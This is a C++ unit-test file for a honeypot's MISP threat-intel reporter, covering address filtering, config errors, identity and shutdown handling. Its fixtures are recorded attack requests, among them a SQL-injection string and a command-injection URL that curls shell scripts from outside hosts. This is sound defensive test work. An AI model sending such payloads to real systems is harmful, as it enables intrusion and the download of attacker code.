// The reporter (src/intel/reporter.h): no warninglisted address in any output (every entry of
// every shipped list tried, feed and REST), configuration errors that name the key, the REST
// transport built from the configuration, the periodic runner.
#include "intel/reporter.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <nlohmann/json.hpp>
#include <thread>

#include "core/paths.h"
#include "fake_misp.h"
#include "http/ip_match.h"
#include "intel/rest_transport.h"
#include "intel/uuid5.h"
#include "temp_dir.h"
#include "test_events.h"

namespace drosera::intel {
namespace {

using nlohmann::json;
using testutil::FakeStore;
using testutil::TempDir;

constexpr const char* kKey = "x7Kq9PzR2mW4vN8sT1yB6cD3fG5hJ0lA9eU2iO4p";

// The first and last address of every entry of every shipped cidr list that applies to ip-src.
std::vector<std::string> everyListedAddress() {
  std::vector<std::string> out;
  for (const auto& f :
       std::filesystem::directory_iterator(testutil::mispDataDir() + "/warninglists")) {
    if (f.path().filename() == "schema.json") continue;
    const json j = testutil::readJsonFile(f.path().string());
    if (j["type"] != "cidr") continue;
    for (const auto& e : j["list"]) {
      const std::string cidr = e.get<std::string>();
      out.push_back(cidr.substr(0, cidr.find('/')));
    }
  }
  return out;
}

std::vector<core::Event> attacksFrom(const std::vector<std::string>& ips) {
  std::vector<core::Event> v;
  int i = 0;
  for (const auto& ip : ips) {
    auto e = testutil::event("hp-web-01", ip, testutil::kDay + (i % 3600) * 1000000ll, "GET",
                             "/?id=1' OR 1=1", {testutil::rule(942100, "SQLi")});
    e.unique_id = "w-" + std::to_string(++i);
    v.push_back(std::move(e));
  }
  return v;
}

TEST(ReporterTest, NoAddressOfAnyWarninglistIsEverReported) {
  const auto listed = everyListedAddress();
  ASSERT_GT(listed.size(), 2500u);
  std::vector<std::string> ips = listed;
  const std::vector<std::string> fine = {testutil::kSqli, testutil::kRce, testutil::kScanner,
                                         testutil::kV6};
  ips.insert(ips.end(), fine.begin(), fine.end());

  TempDir dir;
  FakeStore store;
  testutil::FakeMisp misp(kKey);
  store.add(attacksFrom(ips));
  MispConfig c = testutil::baseConfig();
  c.batch_size = 1000;
  c.feed_dir = dir.path();
  c.url = misp.url();
  c.api_key_env = "DROSERA_TEST_MISP_KEY_W";
  ::setenv("DROSERA_TEST_MISP_KEY_W", kKey, 1);
  auto r = Reporter::create(c, dir.path(), &store,
                            {[] { return testutil::kDay + 30 * testutil::kHour; }});
  ::unsetenv("DROSERA_TEST_MISP_KEY_W");
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  ASSERT_EQ((*r)->transports().size(), 2u);
  auto st = (*r)->runOnce();
  ASSERT_TRUE(st.isOk()) << st.status().toString();
  EXPECT_EQ(st->events_filtered, listed.size());

  // Every IP-typed value and URL host in the feed and in MISP, checked against the lists.
  const Warninglists& lists = (*r)->warninglists();
  std::set<std::string> reported;
  const auto scan = [&](const json& attrs) {
    for (const auto& a : attrs) {
      const std::string type = a["type"], value = a["value"];
      if (type == "ip-src" || type == "ip-dst") {
        EXPECT_FALSE(lists.match(type, value).has_value()) << value;
        reported.insert(value);
      }
      if (type == "url") {
        EXPECT_FALSE(lists.match("url", value).has_value()) << value;
      }
    }
  };
  for (const auto& [name, bytes] : testutil::readDir(dir.path())) {
    if (name == "manifest.json" || name == "hashes.csv") continue;
    const json ev = json::parse(bytes);
    scan(ev["Event"]["Attribute"]);
    for (const auto& o : ev["Event"]["Object"]) scan(o["Attribute"]);
  }
  const json state = misp.state();  // a copy: iterating a temporary's items() dangles
  for (const auto& [uuid, ev] : state.items()) {
    json attrs = json::array();
    for (const auto& [au, a] : ev["attributes"].items()) attrs.push_back(a);
    scan(attrs);
  }
  EXPECT_EQ(reported, std::set<std::string>(fine.begin(), fine.end()));
  const std::string bodies = misp.allBodies();
  for (const auto& ip : listed) {
    const std::string canon = http::canonicalIp(ip);
    // As a whole JSON string value: "1.2.3.4" must not be sent (substrings of other values may).
    EXPECT_EQ(bodies.find("\"" + canon + "\""), std::string::npos) << canon;
  }
  EXPECT_THAT(misp.violations(), ::testing::IsEmpty());
}

// Addresses that are not global are never reported, as sources or as payload URL hosts, even
// with no warninglist loaded at all (the shipped lists miss most of IPv6's special ranges).
TEST(ReporterTest, NonGlobalAddressesAreNeverReportedWhateverTheLists) {
  const std::vector<std::string> local = {"::",
                                          "::1",
                                          "fd00::1234",
                                          "ff02::1",
                                          "fe80::1",
                                          "::ffff:10.0.0.1",
                                          "64:ff9b::a00:1",
                                          "127.0.0.1",
                                          "192.168.7.7",
                                          "169.254.1.1"};
  std::vector<core::Event> events = attacksFrom(local);
  auto rce = testutil::event(
      "hp-web-01", testutil::kRce, testutil::kDay + testutil::kHour, "GET",
      "/cgi-bin/x?cmd=curl%20http://[::1]/a.sh%20http://[fd00::5]/b.sh%20"
      "http://[::ffff:127.0.0.1]/c.sh%20http://[ff02::1]/d.sh%20http://169.254.169.254/e%20"
      "http://45.61.185.23/f.sh",
      {testutil::rule(932100, "Remote Command Execution: Unix Command Injection")});
  rce.unique_id = "rce-1";
  events.push_back(rce);
  TempDir dir;
  TempDir no_lists;
  FakeStore store;
  store.add(events);
  MispConfig c = testutil::baseConfig();
  c.batch_size = 1000;
  c.feed_dir = dir.path();
  c.warninglist_dirs = {no_lists.path()};
  auto r = Reporter::create(c, dir.path(), &store,
                            {[] { return testutil::kDay + 12 * testutil::kHour; }});
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  ASSERT_EQ((*r)->warninglists().lists(), 0u);
  auto st = (*r)->runOnce();
  ASSERT_TRUE(st.isOk()) << st.status().toString();
  EXPECT_EQ(st->events_filtered, local.size());
  std::vector<std::string> ips, urls;
  for (const auto& [name, bytes] : testutil::readDir(dir.path())) {
    if (name == "manifest.json" || name == "hashes.csv") continue;
    const json ev = json::parse(bytes);
    for (const auto& a : ev["Event"]["Attribute"]) {
      if (a["type"] == "ip-src") ips.push_back(a["value"]);
      if (a["type"] == "url") urls.push_back(a["value"]);
    }
  }
  EXPECT_THAT(ips, ::testing::ElementsAre(testutil::kRce));
  EXPECT_THAT(urls, ::testing::ElementsAre("http://45.61.185.23/f.sh"));
}

// Events that retention deleted before the reporter read them are counted, not passed over in
// silence (seqs are dense: a gap is what was deleted).
TEST(ReporterTest, EventsDeletedBeforeTheyWereReadAreCounted) {
  TempDir dir;
  FakeStore store;
  store.add(attacksFrom({testutil::kSqli, testutil::kRce}));
  MispConfig c = testutil::baseConfig();
  c.feed_dir = dir.path();
  auto r = Reporter::create(c, dir.path(), &store,
                            {[] { return testutil::kDay + 30 * testutil::kHour; }});
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  auto first = (*r)->runOnce();
  ASSERT_TRUE(first.isOk()) << first.status().toString();
  EXPECT_EQ(first->events_missed, 0u);
  store.skipSeqs(3);
  store.add(attacksFrom({testutil::kScanner}));
  auto second = (*r)->runOnce();
  ASSERT_TRUE(second.isOk()) << second.status().toString();
  EXPECT_EQ(second->events_missed, 3u);
  EXPECT_EQ(second->cursor, first->cursor + 3 + second->events_read);
  // Damaged rows after the last readable one: counted, and the cursor moves past them.
  store.addDamaged(2);
  auto third = (*r)->runOnce();
  ASSERT_TRUE(third.isOk()) << third.status().toString();
  EXPECT_EQ(third->events_missed, 2u);
  EXPECT_EQ(third->cursor, second->cursor + 2);
  auto fourth = (*r)->runOnce();
  ASSERT_TRUE(fourth.isOk()) << fourth.status().toString();
  EXPECT_EQ(fourth->events_missed, 0u);
  EXPECT_EQ(fourth->cursor, third->cursor);
}

TEST(ReporterTest, ConfigurationErrorsNameTheKey) {
  FakeStore store;
  const auto err = [&](MispConfig c) {
    auto r = Reporter::create(c, "/tmp", &store);
    return r.isOk() ? std::string("ok") : r.status().message();
  };
  MispConfig c = testutil::baseConfig();
  c.tlp = "tlp:purple";
  EXPECT_THAT(err(c), ::testing::HasSubstr("misp.tlp"));
  c = testutil::baseConfig();
  c.honeypot_tags = {"honeypot-basic:interaction-level=\"extreme\""};
  EXPECT_THAT(err(c), ::testing::HasSubstr("misp.honeypot_tags"));
  c = testutil::baseConfig();
  c.allowlist = {"10.0.0.0/40"};
  EXPECT_THAT(err(c), ::testing::HasSubstr("misp.allowlist"));
  c = testutil::baseConfig();
  c.misp_data_dir = "/nonexistent";
  EXPECT_THAT(err(c), ::testing::HasSubstr("misp.misp_data_dir"));
  c = testutil::baseConfig();
  c.warninglist_dirs = {"/nonexistent"};
  EXPECT_THAT(err(c), ::testing::HasSubstr("misp.warninglist_dirs"));
  c = testutil::baseConfig();
  c.namespace_uuid = "not-a-uuid";
  EXPECT_THAT(err(c), ::testing::HasSubstr("misp.namespace_uuid"));
  c = testutil::baseConfig();
  c.sensor_groups = {{"a", {"s1"}}, {"b", {"s1"}}};
  EXPECT_THAT(err(c), ::testing::HasSubstr("misp.sensor_groups"));
  c = testutil::baseConfig();
  c.url = "https://misp.example.org";
  c.api_key_env = "DROSERA_TEST_NO_SUCH_KEY";
  EXPECT_THAT(err(c), ::testing::HasSubstr("DROSERA_TEST_NO_SUCH_KEY"));
}

TEST(ReporterTest, DefaultDataAreTheShippedOnesWithEveryWarninglist) {
  EXPECT_EQ(defaultMispDataDir(), core::shareDir() + "/data/misp");
  if (std::getenv("DROSERA_SHARE_DIR") == nullptr) {
    // A build runs from the source tree: the repository's own data/misp, no ../shared.
    EXPECT_EQ(defaultMispDataDir(), std::string(DROSERA_SOURCE_DIR) + "/data/misp");
  }
  FakeStore store;
  TempDir dir;
  MispConfig c = testutil::baseConfig();
  c.misp_data_dir.clear();
  c.warninglist_dirs.clear();
  auto r = Reporter::create(c, dir.path(), &store);
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  size_t files = 0;
  for (const auto& f : std::filesystem::directory_iterator(defaultMispDataDir() + "/warninglists")) {
    if (f.path().extension() == ".json" && f.path().filename() != "schema.json") ++files;
  }
  EXPECT_GE(files, 27u);
  EXPECT_EQ((*r)->warninglists().lists(), files);  // every list in the folder
  EXPECT_TRUE((*r)->catalog().tagExists("tlp:amber"));
  ASSERT_NE((*r)->catalog().objectTemplate("http-request"), nullptr);

  // A share folder without the data (a broken install): an error that names the key.
  const char* old = std::getenv("DROSERA_SHARE_DIR");
  const std::string saved = old ? old : "";
  ::setenv("DROSERA_SHARE_DIR", dir.path().c_str(), 1);
  auto bad = Reporter::create(c, dir.path(), &store);
  if (old) {
    ::setenv("DROSERA_SHARE_DIR", saved.c_str(), 1);
  } else {
    ::unsetenv("DROSERA_SHARE_DIR");
  }
  ASSERT_FALSE(bad.isOk());
  EXPECT_THAT(bad.status().message(), ::testing::HasSubstr("misp.misp_data_dir"));
  EXPECT_THAT(bad.status().message(), ::testing::HasSubstr(dir.path() + "/data/misp"));
}

TEST(ReporterTest, IdentityIsGeneratedOnceAndKept) {
  FakeStore store;
  TempDir dir;
  MispConfig c = testutil::baseConfig();
  c.namespace_uuid.clear();
  c.org_uuid.clear();
  store.add(testutil::dayOfAttacks());
  auto r1 = Reporter::create(c, dir.path(), &store);
  ASSERT_TRUE(r1.isOk());
  ASSERT_TRUE((*r1)->runOnce().isOk());
  const std::string ns = (*r1)->modelOptions().namespace_uuid;
  EXPECT_TRUE(isUuid(ns));
  EXPECT_NE(ns, (*r1)->modelOptions().org_uuid);
  auto r2 = Reporter::create(c, dir.path(), &store);
  ASSERT_TRUE((*r2)->runOnce().isOk());
  EXPECT_EQ((*r2)->modelOptions().namespace_uuid, ns);
  // Another install (another store) gets another namespace: no UUID clashes between operators.
  FakeStore other;
  auto r3 = Reporter::create(c, dir.path(), &other);
  ASSERT_TRUE((*r3)->runOnce().isOk());
  EXPECT_NE((*r3)->modelOptions().namespace_uuid, ns);
}

TEST(ReporterTest, CorruptStateIsAnErrorNotACrash) {
  FakeStore store;
  TempDir dir;
  store.add(testutil::dayOfAttacks());
  ASSERT_TRUE(store.putState("misp", "part/hp-web-01|2025-03-14/1", "{garbage").isOk());
  auto r = Reporter::create(testutil::baseConfig(), dir.path(), &store,
                            {[] { return testutil::kDay + 12 * testutil::kHour; }});
  ASSERT_TRUE(r.isOk());
  auto st = (*r)->runOnce();
  ASSERT_FALSE(st.isOk());
  EXPECT_EQ(st.status().code(), core::Status::Code::kCorruption);
  EXPECT_EQ(*store.cursor("misp"), 0u);
}

TEST(ReporterTest, EventsOlderThanTheFeedKeepsAreNotReported) {
  FakeStore store;
  TempDir dir;
  store.add(testutil::dayOfAttacks());
  auto r = Reporter::create(testutil::baseConfig(), dir.path(), &store,
                            {[] { return testutil::kDay + 31 * 24 * testutil::kHour; }});
  ASSERT_TRUE(r.isOk());
  auto st = (*r)->runOnce();
  ASSERT_TRUE(st.isOk());
  EXPECT_EQ(st->events_folded, 0u);
  EXPECT_EQ(st->events_too_old + st->events_filtered, testutil::dayOfAttacks().size());
}

// The attacker page's "reported to MISP": every address in a published event has a record
// naming that event, its ip-src attribute, the transport and where it went; once, however
// often the event is published again; nothing for an address that was never reported.
TEST(ReporterTest, EveryPublishedAddressRecordsItsEventAndAttribute) {
  FakeStore store;
  TempDir dir;
  store.add(testutil::dayOfAttacks());
  auto r = Reporter::create(testutil::baseConfig(), dir.path(), &store,
                            {[] { return testutil::kDay + 30 * testutil::kHour; }});
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  ASSERT_TRUE((*r)->runOnce().isOk());
  size_t addresses = 0;
  for (const auto& [name, bytes] : testutil::readDir(dir.file("misp-feed"))) {
    if (name == "manifest.json" || name == "hashes.csv") continue;
    const json ev = json::parse(bytes)["Event"];
    for (const auto& a : ev["Attribute"]) {
      if (a["type"] != "ip-src") continue;
      ++addresses;
      auto reports = addressReports(store, a["value"].get<std::string>());
      ASSERT_TRUE(reports.isOk());
      ASSERT_EQ(reports->size(), 1u) << a["value"];
      const AddressReport& rep = (*reports)[0];
      EXPECT_EQ(rep.destination, "feed");
      EXPECT_EQ(rep.where, dir.file("misp-feed"));
      EXPECT_EQ(rep.event_uuid, ev["uuid"]);
      EXPECT_EQ(rep.attribute_uuid, a["uuid"]);
      EXPECT_EQ(rep.date, ev["date"]);
      EXPECT_GT(rep.published_us, 0);
    }
  }
  EXPECT_GT(addresses, 0u);
  // Published again (a new event of the same day from a known address): still one record each.
  auto more = testutil::dayOfAttacks();
  more.resize(1);
  more[0].unique_id = "again-1";
  store.add(more);
  ASSERT_TRUE((*r)->runOnce().isOk());
  auto again = addressReports(store, more[0].src_ip);
  ASSERT_TRUE(again.isOk());
  EXPECT_LE(again->size(), 1u);
  auto none = addressReports(store, "198.51.100.254");
  ASSERT_TRUE(none.isOk());
  EXPECT_TRUE(none->empty());
}

TEST(ReporterTest, PeriodicReporterRunsUntilStopped) {
  FakeStore store;
  TempDir dir;
  store.add(testutil::dayOfAttacks());
  auto r = Reporter::create(testutil::baseConfig(), dir.path(), &store,
                            {[] { return testutil::kDay + 12 * testutil::kHour; }});
  ASSERT_TRUE(r.isOk());
  PeriodicReporter p(std::move(*r), 0.05);
  p.start();
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  while (*store.cursor("misp") < testutil::dayOfAttacks().size() &&
         std::chrono::steady_clock::now() < deadline) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_EQ(*store.cursor("misp"), testutil::dayOfAttacks().size());
  store.add({testutil::event("hp-web-01", "91.240.118.9", testutil::kDay, "GET", "/.env", {},
                             {testutil::trap("sensitive_file")})});
  const uint64_t want = testutil::dayOfAttacks().size() + 1;
  while (*store.cursor("misp") < want && std::chrono::steady_clock::now() < deadline) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_EQ(*store.cursor("misp"), want);
  p.stop();
  EXPECT_TRUE(std::filesystem::exists(dir.file("misp-feed/manifest.json")));
  p.stop();  // twice is fine
}

// A MISP that takes connections (the kernel completes them into the listen backlog) and never
// answers: a REST call waits for its whole timeout_s.
class SilentServer {
 public:
  SilentServer() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof addr;
    if (::bind(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
        ::listen(fd_, 16) != 0 ||
        ::getsockname(fd_, reinterpret_cast<sockaddr*>(&addr), &len) != 0) {
      ADD_FAILURE() << "cannot listen";
    }
    port_ = ntohs(addr.sin_port);
  }
  ~SilentServer() { ::close(fd_); }
  std::string url() const { return "http://127.0.0.1:" + std::to_string(port_); }
  // Whether a connection waits in the backlog within `ms`.
  bool connected(int ms) const {
    pollfd p{fd_, POLLIN, 0};
    return ::poll(&p, 1, ms) == 1;
  }

 private:
  int fd_ = -1;
  int port_ = 0;
};

core::Result<std::unique_ptr<Reporter>> restReporter(MispConfig c, const std::string& url,
                                                     const std::string& dir, FakeStore* store) {
  c.url = url;
  c.api_key_env = "DROSERA_TEST_MISP_KEY_STOP";
  ::setenv("DROSERA_TEST_MISP_KEY_STOP", kKey, 1);
  auto r = Reporter::create(c, dir, store, {[] { return testutil::kDay + 12 * testutil::kHour; }});
  ::unsetenv("DROSERA_TEST_MISP_KEY_STOP");
  return r;
}

double secondsSince(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

// SIGTERM of drosera run waits for PeriodicReporter::stop(): a pass whose MISP never answers
// (here every call would wait timeout_s 10 s, twice) must give up at once, record nothing as
// sent, and leave the next pass (MISP back) to send everything, once.
TEST(ReporterTest, StoppingAPassThatMispNeverAnswersTakesAboutASecond) {
  const auto events = testutil::dayOfAttacks();
  TempDir dir;
  FakeStore store;
  store.add(events);
  SilentServer silent;
  MispConfig c = testutil::baseConfig();
  c.timeout_s = 10;
  c.retry_attempts = 2;
  auto r = restReporter(c, silent.url(), dir.path(), &store);
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  PeriodicReporter p(std::move(*r), 3600);
  p.start();
  ASSERT_TRUE(silent.connected(10000)) << "the reporter never called MISP";
  std::this_thread::sleep_for(std::chrono::milliseconds(300));  // the request is out, unanswered
  const auto t0 = std::chrono::steady_clock::now();
  p.stop();
  EXPECT_LT(secondsSince(t0), 2.5);
  EXPECT_EQ(*store.cursor("misp"), 0u);
  const json status = json::parse(p.statusJson());
  EXPECT_EQ(status["failures"], 0) << "a stop is not a failure";

  // MISP back: everything arrives, once (as in a run that was never stopped).
  testutil::FakeMisp clean(kKey);
  {
    FakeStore clean_store;
    clean_store.add(events);
    TempDir clean_dir;
    auto cr = restReporter(c, clean.url(), clean_dir.path(), &clean_store);
    ASSERT_TRUE(cr.isOk()) << cr.status().toString();
    ASSERT_TRUE((*cr)->runOnce().isOk());
  }
  testutil::FakeMisp misp(kKey);
  auto again = restReporter(c, misp.url(), dir.path(), &store);
  ASSERT_TRUE(again.isOk()) << again.status().toString();
  auto st = (*again)->runOnce();
  ASSERT_TRUE(st.isOk()) << st.status().toString();
  EXPECT_EQ(*store.cursor("misp"), events.size());
  EXPECT_TRUE(testutil::sameJson(misp.state(), clean.state()));
  EXPECT_THAT(misp.violations(), ::testing::IsEmpty());
}

// Stopped while a sighting is in flight (MISP added it, its answer late): the call is aborted,
// the sighting is not recorded as sent, and the next pass asks MISP before sending it again:
// MISP holds it once.
TEST(ReporterTest, AStopDuringASightingRecordsNothingUnconfirmed) {
  const auto events = testutil::dayOfAttacks();
  MispConfig c = testutil::baseConfig();
  testutil::FakeMisp clean(kKey);
  {
    FakeStore clean_store;
    clean_store.add(events);
    TempDir clean_dir;
    auto cr = restReporter(c, clean.url(), clean_dir.path(), &clean_store);
    ASSERT_TRUE(cr.isOk()) << cr.status().toString();
    ASSERT_TRUE((*cr)->runOnce().isOk());
  }
  TempDir dir;
  FakeStore store;
  store.add(events);
  testutil::FakeMisp misp(kKey);
  misp.setSlowSeconds(60);
  misp.setFaults([](int, const std::string&, const std::string& path) {
    return path == "/sightings/add" ? testutil::FakeMisp::Fault::kCommitThenSlow
                                    : testutil::FakeMisp::Fault::kNone;
  });
  auto r = restReporter(c, misp.url(), dir.path(), &store);
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  core::Result<ReportStats> result = core::Status::internal("not run");
  std::thread runner([&] { result = (*r)->runOnce(); });
  const auto sighting_sent = [&] {
    for (const auto& l : misp.log()) {
      if (l.rfind("POST /sightings/add", 0) == 0) return true;
    }
    return false;
  };
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  while (!sighting_sent() && std::chrono::steady_clock::now() < deadline) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_TRUE(sighting_sent()) << "no sighting was sent";
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  const auto t0 = std::chrono::steady_clock::now();
  (*r)->requestStop();
  runner.join();
  EXPECT_LT(secondsSince(t0), 2.5);
  EXPECT_FALSE(result.isOk());
  EXPECT_LT(*store.cursor("misp"), events.size());

  misp.setFaults(nullptr);
  (*r)->resume();
  auto st = (*r)->runOnce();
  ASSERT_TRUE(st.isOk()) << st.status().toString();
  const auto* rest = dynamic_cast<const RestTransport*>((*r)->transports().back().get());
  ASSERT_NE(rest, nullptr);
  EXPECT_GE(rest->stats().reconciled, 1u) << "the sighting in flight was not asked about";
  EXPECT_EQ(*store.cursor("misp"), events.size());
  EXPECT_TRUE(testutil::sameJson(misp.state(), clean.state()));
  EXPECT_THAT(misp.violations(), ::testing::IsEmpty());
}

}  // namespace
}  // namespace drosera::intel
